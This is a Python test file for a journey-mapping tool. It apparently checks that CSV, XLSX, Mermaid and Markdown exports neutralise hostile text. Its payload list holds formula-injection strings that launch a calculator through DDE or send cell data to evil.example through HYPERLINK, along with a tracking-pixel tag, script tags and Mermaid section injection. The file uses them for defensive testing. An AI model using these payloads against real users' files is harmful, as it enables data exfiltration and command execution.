"""Exports of a stranger's map are read as plain text by the program that opens them.

Titles, stage and step names, card texts and persona fields full of formula prefixes,
backticks, carriage returns, HTML, Mermaid directives, control characters, right-to-left
marks and 10,000-character words are written to CSV, XLSX, Mermaid and Markdown, then read
back with what a victim would use: the csv module (as a spreadsheet splits cells),
openpyxl (cell types), the project's own Mermaid parser and a CommonMark parser.
"""

from __future__ import annotations

import csv
import io
import re

from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from openpyxl import load_workbook

from journey_studio.fileformat.csv_io import csv_from_journey, journey_from_csv_text
from journey_studio.fileformat.mermaid_export import markdown_from_journey, mermaid_from_journey
from journey_studio.fileformat.mermaid_import import journey_from_mermaid_text
from journey_studio.fileformat.mermaid_parser import parse_mermaid_journey
from journey_studio.fileformat.xlsx_io import journey_from_xlsx_bytes, xlsx_bytes_from_journey
from journey_studio.model import Card, Lane, LaneKind
from journey_studio.templates import new_journey

PIECES = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
          "+1+1", "-2+3+cmd|' /C calc'!A0", "\t=1+1", " =1+1", "\r=1+1", "'=1", "```", "````mermaid", "~~~",
          "\r", "\r\n", "\n", "\u2028", "\u2029", "<img src=\"https://t.example/p.gif\">", "<script>x</script>",
          "[link](http://e.example)", "%%{init: {'theme': 'dark'}}%%", "%%", "#", ";", ":", ",", "section X",
          "title T", "journey", "\x00", "\x07", "\x1b[31m", "\u202e", "\u200f", "\u2066", "#35;", "&amp;",
          "<br>", "w" * 10_000, "é", "😀", " ", "-5", "3"]
hostile_text = st.lists(st.sampled_from(PIECES), min_size=1, max_size=5).map("".join)

LIVE = re.compile(r"^[\s]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]")
NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def hostile_map(title: str, stage: str, step: str, text: str):
    journey = new_journey("blank", "en")  # no example cards: each cell holds only what the test puts
    m = journey.map
    m.title, m.description = title[:300], text[:10_000]
    m.stages[0].name, m.stages[0].steps[0].name = stage[:300], step[:300]
    m.main_persona.name, m.main_persona.quote, m.main_persona.goals = title[:300], text[:10_000], [text[:2000]]
    actors = Lane(id="lane-actors", kind=LaneKind.TEXT, title="Actors")
    m.lanes.append(actors)
    lane = m.lanes[0]
    step_id = m.stages[0].steps[0].id
    m.cards.extend([Card(id="card-h1", step=step_id, lane=lane.id, text=text[:10_000]),
                    Card(id="card-h2", step=step_id, lane=actors.id, text=title[:10_000])])
    return journey


maps = st.builds(hostile_map, hostile_text, hostile_text, hostile_text, hostile_text)
EXPORTS = settings(max_examples=10, deadline=None)


@EXPORTS
@given(journey=maps)
# found by this test: semicolons in a stage name made the reader take ';' for the separator
@example(journey=hostile_map('=HYPERLINK("x")', "#35;;\r\n", "=1+1", "=1+1"))
@example(journey=hostile_map('=HYPERLINK("x")', ";#35;\r\n", "a\tb\tc", "x;y;z"))
def test_no_csv_cell_starts_a_formula_and_the_round_trip_holds(journey):
    text, _ = csv_from_journey(journey)
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert not LIVE.match(cell) or NUMBER.fullmatch(cell), f"live cell {cell[:40]!r}"
    back = journey_from_csv_text(text).journey.map
    assert back.stages[0].name == journey.map.stages[0].name.replace("\r\n", "\n").replace("\r", "\n").strip()
    texts = {c.text for c in back.cards}
    card = journey.map.cards[0].text.replace("\r\n", "\n").replace("\r", "\n").strip()
    assert not card or not re.search(r"\n[ \t]*\n", card) and card in texts


@EXPORTS
@given(journey=maps)
def test_xlsx_cells_are_text_never_formulas(journey):
    data, _ = xlsx_bytes_from_journey(journey)
    book = load_workbook(io.BytesIO(data))
    for row in book.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, str(cell.value)[:40])
            if isinstance(cell.value, str):
                assert cell.data_type in ("s", "inlineStr"), (cell.coordinate, cell.data_type)
    back = journey_from_xlsx_bytes(data).journey.map
    expected = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", journey.map.stages[0].name)
    assert back.stages[0].name == expected.replace("\r\n", "\n").replace("\r", "\n").strip()


@EXPORTS
@given(journey=maps)
def test_mermaid_export_reads_back_as_the_same_sections_and_tasks(journey):
    text, _ = mermaid_from_journey(journey)
    diagram = parse_mermaid_journey(text)
    m = journey.map
    assert diagram.title == m.title
    # nothing injected: one section per stage, at most one task per step (a blank stage has none)
    named = [s.name or " " for s in m.stages] if m.stages[0].name else [s.name or " " for s in m.stages[1:]]
    assert diagram.sections == named
    assert len(diagram.tasks) <= sum(len(s.steps) for s in m.stages)
    back = journey_from_mermaid_text(text).journey.map
    assert back.title == m.title and [s.name for s in back.stages][1:] == [s.name for s in m.stages][1:]


@EXPORTS
@given(journey=maps)
def test_markdown_export_never_leaves_its_fence(journey):
    document, _ = markdown_from_journey(journey)
    diagram, _ = mermaid_from_journey(journey)
    tokens = MarkdownIt("commonmark").parse(document)
    assert [(t.type, t.info) for t in tokens] == [("fence", "mermaid")]
    assert tokens[0].content == diagram.replace("\0", "\ufffd")  # CommonMark: NUL is shown as U+FFFD
    assert journey_from_mermaid_text(document).journey.map.title == journey.map.title


def test_the_reported_injections_stay_inside():
    """The cases of the issue, by name."""
    journey = hostile_map("Q3 review\rsection Injected\rWire money to IBAN X: 5: Mallory", "S", "", "text")
    back = journey_from_mermaid_text(mermaid_from_journey(journey)[0]).journey.map
    assert back.title == journey.map.title and len(back.stages) == len(journey.map.stages)
    pixel = "x\r```\n<img src=\"https://t.example/p.gif\"> [a](http://e.example)"
    document, _ = markdown_from_journey(hostile_map(pixel, "S", "", "t"))
    html = MarkdownIt("commonmark").render(document)
    assert "<img" not in html and "<a " not in html and html.count("<pre>") == 1
    rows = list(csv.reader(io.StringIO(csv_from_journey(hostile_map("T", "\t=1+1", "", "=cmd|' /C calc'!A0"))[0])))
    assert rows[0][1] == "'\t=1+1" and "'=cmd|' /C calc'!A0" in rows[2]


def test_the_png_size_advice_names_only_values_the_command_accepts():
    """A map too large even at the lowest resolution is told to choose a width, never "0 DPI"."""
    import pytest

    from journey_studio.export.errors import ExportError
    from journey_studio.export.png_export import MIN_DPI, PngOptions, png_geometry

    journey = new_journey("classic", "en")
    m = journey.map
    for stage in m.stages:  # very tall cards: the image passes the pixel cap even at 96 DPI
        m.cards.extend(Card(id=f"card-tall-{stage.id}-{n}", step=stage.steps[0].id, lane=m.lanes[0].id,
                            text="word " * 2000) for n in range(20))
    with pytest.raises(ExportError) as refused:
        png_geometry(journey, PngOptions(dpi=MIN_DPI))
    advice = str(refused.value)
    for dpi in re.findall(r"(\d+) DPI", advice):
        assert int(dpi) >= MIN_DPI, advice
    width = int(re.search(r"width of at most ([\d,]+) pixels", advice).group(1).replace(",", ""))
    assert png_geometry(journey, PngOptions(width=width)).height <= 32_000
